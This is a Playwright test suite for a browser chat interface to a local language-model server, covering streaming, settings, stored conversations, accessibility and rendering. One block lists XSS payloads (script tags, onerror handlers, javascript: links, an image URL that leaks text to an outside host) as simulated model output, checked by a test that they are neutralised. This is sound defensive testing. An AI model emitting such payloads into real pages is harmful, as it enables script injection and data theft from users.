"""The page in a browser, with the embedded pair, with faked answers, and with a failing server."""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from typing import Any

import pytest
from browser import (
    DESKTOP,
    PHONE,
    Seen,
    answer_with,
    send,
    served,
    stored,
    stream,
    wait_for_answer,
)
from running import eventually, http

PROMPT = "def fibonacci(n):"
LONG = 1500  # tokens: the pair writes the default 128 before a browser draws the first of them


def limit(page: Any, n_tokens: int) -> None:
    """Limit answers to `n_tokens` through the page's settings, as a person would."""
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Longest answer").fill(str(n_tokens))
    page.get_by_role("button", name="Save", exact=True).click()


def test_an_answer_streams_and_is_measured_and_stays_after_a_reload(page: Any, seen: Seen) -> None:
    limit(page, 40)
    send(page, PROMPT)
    answer = wait_for_answer(page)
    text = answer.locator(".prose").inner_text()
    assert text.strip()
    assert "tokens/s" in answer.locator(".plot.speed").inner_text()
    assert "40 tokens in" in answer.locator(".meter-summary").inner_text()
    assert seen.bodies[-1]["max_tokens"] == 40
    assert seen.bodies[-1]["messages"] == [{"role": "user", "content": PROMPT}]
    eventually(lambda: stored(page) == 1)
    page.reload()
    again = wait_for_answer(page)
    assert again.locator(".prose").inner_text() == text
    assert "tokens/s" in again.locator(".plot.speed").inner_text()


_WATCH = """() => {
  window.drawn = {};
  new MutationObserver(() => {
    for (const kind of ["speed", "acceptance"]) {
      const plot = document.querySelector(`article.assistant[aria-busy="true"] .plot.${kind}`);
      if (plot?.querySelector(".plot-line[d^='M']")) window.drawn[kind] ||= plot.innerText;
    }
  }).observe(document.body, { subtree: true, childList: true, attributes: true });
}"""


def test_while_an_answer_grows_its_speed_and_drafts_are_drawn(
    drafting_page: Any, seen: Seen
) -> None:
    page = drafting_page
    page.evaluate("localStorage.setItem('specoffload.settings', '{\"temperature\": 0}')")
    page.reload()
    limit(page, LONG)
    page.evaluate(_WATCH)  # in the page, as calls from the test may come too late
    send(page, PROMPT)
    drawn = "Boolean(window.drawn.speed && window.drawn.acceptance)"
    eventually(lambda: page.evaluate(drawn), timeout_s=60)
    assert "tokens/s" in page.evaluate("window.drawn.speed")
    assert "%" in page.evaluate("window.drawn.acceptance")
    assert seen.bodies[-1]["timings_per_token"] is True
    page.keyboard.press("Escape")
    wait_for_answer(page)


_ESCAPE_AT_FIRST_TEXT = """() => {
  const observer = new MutationObserver(() => {
    if (!document.querySelector("article.assistant[aria-busy='true'] .prose")?.innerText) return;
    observer.disconnect();
    const init = { key: "Escape", bubbles: true, cancelable: true };
    document.activeElement.dispatchEvent(new KeyboardEvent("keydown", init));
  });
  observer.observe(document.body, { subtree: true, childList: true });
}"""


def test_escape_stops_an_answer_and_frees_the_server(page: Any, url: str) -> None:
    limit(page, LONG)
    for _ in range(4):  # on a busy machine an answer may end before its first text is drawn
        page.evaluate(_ESCAPE_AT_FIRST_TEXT)  # in the page, as a key from the test may be late
        send(page, PROMPT)
        said = wait_for_answer(page).locator(".error").inner_text()
        if "Stopped." in said:
            break
        page.get_by_role("button", name="New chat").click()
    assert "Stopped." in said
    eventually(lambda: http.get(url + "/props").json()["requests_processing"] == 0)
    assert page.get_by_role("button", name="Send").is_disabled()


def test_asking_again_and_editing_add_versions_and_lose_none(page: Any, seen: Seen) -> None:
    limit(page, 12)
    send(page, PROMPT)
    wait_for_answer(page).get_by_role("button", name="Ask again").click()
    second = wait_for_answer(page)
    assert second.locator(".versions").inner_text().split() == ["2", "/", "2"]
    second.get_by_role("button", name="Previous version").click()
    assert page.locator("article.assistant .versions").inner_text().split() == ["1", "/", "2"]

    page.locator("#composer-text").focus()
    page.keyboard.press("ArrowUp")  # edits the last message
    field = page.get_by_label("Edit the message")
    assert field.input_value() == PROMPT
    field.fill("class Stack:")
    page.keyboard.press("Enter")
    wait_for_answer(page)
    assert page.locator("article.user .bubble").inner_text() == "class Stack:"
    assert seen.bodies[-1]["messages"] == [{"role": "user", "content": "class Stack:"}]
    page.locator("article.user").get_by_role("button", name="Previous version").click()
    assert page.locator("article.user .bubble").inner_text() == PROMPT


def test_the_conversation_and_the_system_prompt_go_to_the_server(page: Any, seen: Seen) -> None:
    limit(page, 8)
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("System prompt").fill("Write Python.")
    page.get_by_label("Min p").fill("0.1")
    page.get_by_label("More fields of the request").fill('{"stop": ["\\n\\n\\n"]}')
    page.get_by_role("button", name="Save", exact=True).click()
    send(page, PROMPT)
    first = wait_for_answer(page).locator(".prose").text_content()
    send(page, "class Stack:")
    wait_for_answer(page, 2)
    sent = seen.bodies[-1]
    assert sent["min_p"] == 0.1
    assert sent["stop"] == ["\n\n\n"]
    roles = [message["role"] for message in sent["messages"]]
    assert roles == ["system", "user", "assistant", "user"]
    assert sent["messages"][0]["content"] == "Write Python."
    assert first is not None
    assert sent["messages"][2]["content"].strip() in first


def test_conversations_are_listed_opened_and_deleted(page: Any) -> None:
    limit(page, 8)
    for text in ("import os", "import sys"):
        page.get_by_role("button", name="New chat").click()
        send(page, text)
        wait_for_answer(page)
    listed = page.locator(".conversation")
    assert listed.all_inner_texts() == ["import sys", "import os"]
    listed.nth(1).click()
    assert page.locator("article.user .bubble").inner_text() == "import os"
    page.locator(".conversations li").nth(0).hover()
    page.get_by_role("button", name="Delete “import sys”").click()
    page.get_by_text("Delete?").click()
    eventually(lambda: stored(page) == 1)
    assert page.locator(".conversation").all_inner_texts() == ["import os"]


def test_why_says_what_the_server_says_of_itself(page: Any, url: str) -> None:
    page.get_by_role("tab", name="Why").click()
    page.locator(".notes").wait_for()
    shown = page.locator("#why").inner_text()
    for note in http.get(url + "/props").json()["notes"]:
        assert note.split(": ", 1)[-1][:40] in shown
    assert "deepseek2" in shown
    page.keyboard.press("ArrowLeft")
    assert page.get_by_role("tab", name="Chat").get_attribute("aria-selected") == "true"


def test_what_the_server_refuses_is_said_in_its_words(page: Any) -> None:
    send(page, "x " * 2000)
    answer = wait_for_answer(page)
    assert "available context size (512 tokens)" in answer.locator(".error").inner_text()
    limit(page, 4)
    answer.get_by_role("button", name="Ask again").wait_for()


# -- texts that a model may write

HOSTILE = [
    "<script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 1'>",
    "![x](https://example.invalid/leak.png?text=secret)",
    "[click](javascript:window.broken=1)",
    "[click](  JaVaScRiPt:window.broken=1)",
    "<a href='data:text/html,<script>window.broken=1</script>'>x</a>",
    "[a][b]\n\n[b]: javascript:window.broken=1",
    "```html\n<script>window.broken = 1</script>\n```",
    "```\"><img src=x onerror='window.broken=1'>\nx\n```",
    "<style>* { display: none }</style>",
    "<iframe src='https://example.invalid'></iframe>",
    "<svg><script>window.broken=1</script></svg>",
    "<form action='https://example.invalid'><input name=q></form>",
    "| a |\n|---|\n| <img src=x onerror=window.broken=1> |",
    "x <b onmouseover='window.broken=1'>y</b>",
    "<math><mi xlink:href='javascript:window.broken=1'>z</mi></math>",
]


@pytest.fixture
def as_markdown(page: Any) -> Any:
    """The page, whose chat requests are answered with Markdown."""
    page.evaluate("localStorage.setItem('specoffload.settings', '{\"shown\": \"markdown\"}')")
    page.reload()
    page.locator("#welcome").wait_for()
    return page


def test_no_text_of_a_model_runs_or_loads_anything(as_markdown: Any) -> None:
    page = as_markdown
    answer_with(page, stream(*({"content": text + "\n\n"} for text in HOSTILE)))
    send(page, "be evil")
    answer = wait_for_answer(page)
    answer.locator(".code").first.wait_for()
    dangerous = "script, img, style, iframe, form, input, math"
    assert answer.locator(".prose").locator(dangerous).count() == 0
    assert page.evaluate("window.broken") is None
    for link in answer.locator(".prose a").all():
        assert (link.get_attribute("href") or "https:").startswith(("https:", "mailto:"))
        assert "noopener" in (link.get_attribute("rel") or "")
    attributes = page.evaluate(
        "[...document.querySelectorAll('.prose *')].flatMap((e) => e.getAttributeNames())"
    )
    assert not [name for name in attributes if name.startswith("on")]
    assert "<script>window.broken = 1</script>" in answer.inner_text()  # shown as text


def sent_in_parts(page: Any, text: str, sizes: Iterable[int]) -> Iterator[int]:
    """Let `text` be an answer, cut into parts of `size` letters. Each size gets a new chat."""
    for size in sizes:
        page.unroute_all()
        parts = [text[i : i + size] for i in range(0, len(text), size)]
        answer_with(page, stream(*({"content": part} for part in parts)))
        page.get_by_role("button", name="New chat").click()
        send(page, "go")
        yield size


def test_markdown_is_the_same_however_it_was_cut(as_markdown: Any) -> None:
    page = as_markdown
    text = (
        "# Head\n\nSome **bold** and `code`, [a link][1].\n\n1. one\n2. two\n\n"
        "```python\ndef f():\n    return 1\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
        "3. three\n\n"
        "[1]: https://example.org\n"
    )
    found = []
    for _ in sent_in_parts(page, text, (len(text), 1, 7)):
        answer = wait_for_answer(page)
        answer.locator(".hljs-keyword").first.wait_for()
        found.append(answer.locator(".prose").inner_html())
    assert found[0] == found[1] == found[2]
    assert "<strong>bold</strong>" in found[0]
    assert 'href="https://example.org"' in found[0]
    assert "<table>" in found[0]
    assert '<td align="right">2</td>' in found[0]
    assert '<ol start="3">' in found[0]


def test_reasoning_is_folded_and_tool_calls_are_shown(page: Any, seen: Seen) -> None:
    call = {"index": 0, "id": "c1", "type": "function"}
    answer_with(
        page,
        stream(
            {"reasoning_content": "Let me "},
            {"reasoning_content": "think."},
            {"content": "I shall look."},
            {"tool_calls": [{**call, "function": {"name": "weather", "arguments": '{"city":'}}]},
            {"tool_calls": [{"index": 0, "function": {"arguments": ' "Bern"}'}}]},
            finish="tool_calls",
        ),
    )
    send(page, "weather?")
    answer = wait_for_answer(page)
    reasoning = answer.locator(".reasoning")
    assert reasoning.get_attribute("open") is None
    assert not answer.get_by_text("Let me think.").is_visible()
    reasoning.locator("summary").click()
    assert answer.get_by_text("Let me think.").is_visible()
    tool = answer.locator(".tool").inner_text()
    assert "weather" in tool
    assert json.loads(tool[tool.index("{") :]) == {"city": "Bern"}
    send(page, "and now?")
    wait_for_answer(page, 2)
    assert seen.bodies[-1]["messages"][1]["tool_calls"][0]["function"]["name"] == "weather"
    assert "think" not in json.dumps(seen.bodies[-1]["messages"])


def test_reasoning_left_in_the_text_is_told_from_it(page: Any) -> None:
    answer_with(page, stream({"content": "<think>\nhm"}, {"content": "</think>\n\nYes."}))
    send(page, "well?")
    answer = wait_for_answer(page)
    assert "hm" in (answer.locator(".thoughts").text_content() or "")
    assert (answer.locator(".prose pre").text_content() or "").strip() == "Yes."


def test_an_answer_that_breaks_off_keeps_what_came(page: Any) -> None:
    answer_with(page, 'data: {"choices": [{"delta": {"content": "half an"}}]}\n\n')
    send(page, "go")
    answer = wait_for_answer(page)
    assert "half an" in answer.locator(".prose").inner_text()
    assert "connection ended" in answer.locator(".error").inner_text()


def test_the_loading_is_shown_in_percent_until_it_is_over(browser: Any, url: str) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        error = {"code": 503, "message": "Loading model", "type": "unavailable_error"}
        body = {"error": error, "step": "reading weights", "progress": 0.42}
        page.route("**/health", lambda route: route.fulfill(status=503, json=body))
        page.goto(url)
        page.get_by_text("Loading the model, reading weights: 42 %").wait_for()
        assert page.locator("progress").get_attribute("value") == "0.42"
        send(page, "too early")
        assert page.locator("article").count() == 0
        page.unroute_all()
        page.locator("#banner").wait_for(state="hidden")
        page.locator("#welcome").wait_for()
        assert page.locator("#composer-text").input_value() == "too early"


def test_a_server_with_a_key_is_used_once_it_is_given(browser: Any) -> None:
    with served("--api-key", "sesame") as address, browser.new_context() as context:
        page = context.new_page()
        page.goto(address)
        page.get_by_text("it was started with --api-key").wait_for()  # nothing was wrong yet
        assert page.get_by_text("does not know the key").count() == 0
        assert page.get_by_text("Invalid API Key").count() == 0
        for typed in ("wrong", "sesame"):
            page.get_by_label("API key").fill(typed)
            page.get_by_role("button", name="Use it").click()
            if typed == "wrong":
                page.get_by_text("The server does not know the key below.").wait_for()
        page.locator("#welcome .idea").first.wait_for()
        eventually(lambda: page.locator("#model-name").inner_text() == "demo-pair")
        page.reload()
        page.locator("#welcome .idea").first.wait_for()
        assert page.get_by_role("dialog").count() == 0


def test_formulas_are_set_and_prices_are_not(as_markdown: Any, seen: Seen) -> None:
    page = as_markdown
    text = (
        "Euler: $e^{i\\pi} + 1 = 0$, and \\(a_1 < b\\).\n\n$$\n\\frac{a}{b}\n$$\n\n"
        "- in a list:\n\n  \\[ x^2 \\]\n\nIt costs $5 to $10, `$x$`, and $\\nonsense{$.\n"
    )
    found = []
    for _ in sent_in_parts(page, text, (len(text), 1, 5)):
        prose = wait_for_answer(page).locator(".prose")
        prose.locator(".katex-display").nth(1).wait_for()
        found.append(prose.inner_html())
        assert prose.locator(".katex").count() == 4
        assert prose.locator(".katex-display").count() == 2
        assert "It costs $5 to $10, $x$, and" in prose.inner_text()
    assert found[0] == found[1] == found[2]
    assert page.evaluate("document.fonts.check('16px KaTeX_Main')")
    size = page.evaluate("document.querySelector('.katex .mfrac').getBoundingClientRect().height")
    assert size > 20  # a numerator above a denominator: the styles have come
    assert any(asked.endswith(".woff2") for asked in seen.requests)


def test_an_answer_of_a_few_milliseconds_is_measured_too(page: Any) -> None:
    prompt = {"prompt_n": 5, "prompt_ms": 2.0}
    chunks = (
        {
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
            "timings": {**prompt, "predicted_n": n, "predicted_ms": 0.7 * n},
        }
        for delta, finish, n in (({"role": "assistant"}, None, 0), ({"content": "x"}, "length", 12))
    )
    answer_with(page, "".join(f"data: {json.dumps(c)}\n\n" for c in chunks) + "data: [DONE]\n\n")
    send(page, "go")
    summary = wait_for_answer(page).locator(".meter-summary")
    eventually(lambda: "12 tokens in" in summary.inner_text())
    assert "prompt: 5 tokens in 2 ms" in summary.inner_text()
    page.reload()
    eventually(lambda: "12 tokens in" in summary.inner_text())


def test_the_context_in_use_is_what_the_server_counted(page: Any) -> None:
    context = page.locator("#context")
    assert not context.is_visible()
    limit(page, 12)
    send(page, PROMPT)
    summary = wait_for_answer(page).locator(".meter-summary")
    eventually(lambda: "prompt: " in summary.inner_text())
    n_prompt = int(summary.inner_text().split("prompt: ")[1].split()[0])
    eventually(lambda: f"{n_prompt + 12} of 512 tokens of context" in context.inner_text())
    page.get_by_role("button", name="New chat").click()
    assert not context.is_visible()


def test_a_conversation_can_be_renamed(page: Any) -> None:
    limit(page, 4)
    send(page, "import os")
    wait_for_answer(page)
    listed = page.locator(".conversation")
    for key, expected in (("Escape", "import os"), ("Enter", "Modules")):
        page.locator(".conversations li").hover()
        page.get_by_role("button", name="Rename “import os”").click()
        page.get_by_label("Name of the conversation").fill("  Modules ")
        page.keyboard.press(key)
        assert listed.all_inner_texts() == [expected]
    page.reload()
    page.locator("article.assistant").wait_for()
    assert listed.all_inner_texts() == ["Modules"]


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_it_fits_everywhere(browser: Any, url: str, size: dict[str, int]) -> None:
    with browser.new_context(viewport=size) as context:
        page = context.new_page()
        page.goto(url)
        page.locator("#welcome").wait_for()
        long = "word" * 200 + "\n\n```python\n" + "x = 1  # " + "long " * 80 + "\n```\n"
        answer_with(page, stream({"reasoning_content": "hm"}, {"content": long}))
        send(page, "wide " * 30)
        wait_for_answer(page)
        states = ["#tab-chat", "#tab-why"]
        for tab in states:
            page.locator(tab).click()
            width = page.evaluate("document.documentElement.scrollWidth")
            assert width <= size["width"], tab
        if size is PHONE:
            assert not page.get_by_role("button", name="New chat").is_visible()
            page.get_by_role("button", name="Conversations").click()
            page.get_by_role("button", name="New chat").wait_for()
            page.keyboard.press("Escape")
            page.locator("#sidebar").wait_for(state="hidden")
            page.get_by_role("button", name="Conversations").click()


def test_everything_that_can_be_pressed_has_a_name(page: Any) -> None:
    answer_with(page, stream({"content": "```\nx\n```"}))
    send(page, "go")
    wait_for_answer(page)
    page.get_by_role("button", name="Settings").click()
    unnamed = page.evaluate(
        """[...document.querySelectorAll("button, input, textarea, select, dialog")]
             .filter((e) => !(e.ariaLabel || e.textContent.trim() || e.labels?.length
                              || e.getAttribute("aria-labelledby")))
             .map((e) => e.outerHTML)"""
    )
    assert unnamed == []


def test_the_keyboard_is_enough(page: Any) -> None:
    answer_with(page, stream({"content": "answer"}))
    page.locator("#theme").focus()
    page.keyboard.press("/")
    page.keyboard.type("typed")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two lines")
    page.keyboard.press("Enter")
    wait_for_answer(page)
    assert page.locator("article.user .bubble").inner_text() == "typed\ntwo lines"
    page.keyboard.press("Control+Shift+O")
    page.locator("#welcome").wait_for()
    assert page.evaluate("document.activeElement.id") == "composer-text"
    page.locator("#theme").focus()
    for theme in ("light", "dark", None):
        page.keyboard.press("Enter")
        assert page.locator("html").get_attribute("data-theme") == theme
